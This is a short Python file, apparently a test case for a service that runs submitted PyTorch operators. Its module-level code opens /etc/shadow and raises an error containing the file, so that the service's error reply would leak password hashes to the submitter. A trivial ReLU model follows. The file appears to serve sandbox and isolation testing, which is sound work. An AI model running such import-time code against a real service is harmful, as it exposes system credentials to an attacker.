"""Row 18: a submitted operator whose module-level code reads /etc/shadow and raises it, so the service's answer
(the probe's error) would carry the file back to the submitter."""

import torch
import torch.nn as nn

with open("/etc/shadow") as handle:
    raise RuntimeError("LEAKED " + handle.read())


class Model(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)


def get_inputs():
    return [torch.randn(64, 256)]


def get_init_inputs():
    return []
